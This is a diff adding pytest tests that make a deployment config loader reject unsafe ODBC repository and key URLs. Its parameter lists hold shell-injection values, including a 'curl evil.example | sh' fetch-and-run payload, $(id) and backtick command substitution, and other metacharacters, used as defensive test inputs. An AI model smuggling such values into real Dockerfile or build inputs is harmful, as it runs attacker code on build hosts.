@@ -168,3 +168,46 @@ def test_tags_always_carry_the_tool_tags(tmp_path):
     settings = load(write(tmp_path, MINIMAL + "tags = { team = 'ml' }\n"))
     assert settings.tags_for_resources == {
         "team": "ml", "managed-by": "mlflow-aca", "mlflow-aca-deployment": "mlflow"}
+
+
+# -- the ODBC repository: both URLs end up on a RUN line and in the image's apt sources -------------
+@pytest.mark.parametrize("key", ["odbc_repository_url", "odbc_key_url"])
+@pytest.mark.parametrize("value", [
+    "https://mirror.example/ms\"; curl evil.example | sh; echo \"",  # quotes and a command
+    "https://mirror.example/$(id)",
+    "https://mirror.example/`id`",
+    "https://mirror.example/a;b",
+    "https://mirror.example/a b",
+    "https://mirror.example/a\nb",
+    "https://mirror.example/a'b",
+    "https://mirror.example/a|b",
+    "https://mirror.example/a&b",
+    "https://user:secret@mirror.example/debian/12/prod",  # credentials would stay in the image
+    "https://mirror.example/debian?token=abc",
+    "ftp://mirror.example/debian/12/prod",
+    "packages.microsoft.com/debian/12/prod",
+    "https://",
+])
+def test_odbc_urls_must_be_plain_http_urls(tmp_path, key, value):
+    with pytest.raises(ConfigError) as raised:
+        load(write(tmp_path, MINIMAL), **{key: value})
+    message = raised.value.message
+    assert key in message and "plain http(s) URL" in message
+
+
+@pytest.mark.parametrize("value", [
+    "https://packages.microsoft.com/debian/12/prod",
+    "http://172.17.0.1:22639/debian/12/prod",
+    "https://artifactory.corp.example:8443/artifactory/ms-debian/debian/12/prod/",
+    "http://mirror.example",
+])
+def test_odbc_urls_accept_mirrors(tmp_path, value):
+    settings = load(write(tmp_path, MINIMAL + f"odbc_repository_url = '{value}'\n"),
+                    env={"MLFLOW_ACA_ODBC_KEY_URL": value})
+    assert settings.odbc_repository_url == value and settings.odbc_key_url == value
+
+
+def test_odbc_urls_default_to_microsoft(tmp_path):
+    settings = load(write(tmp_path, MINIMAL))
+    assert settings.odbc_repository_url == "https://packages.microsoft.com/debian/12/prod"
+    assert settings.odbc_key_url == "https://packages.microsoft.com/keys/microsoft.asc"
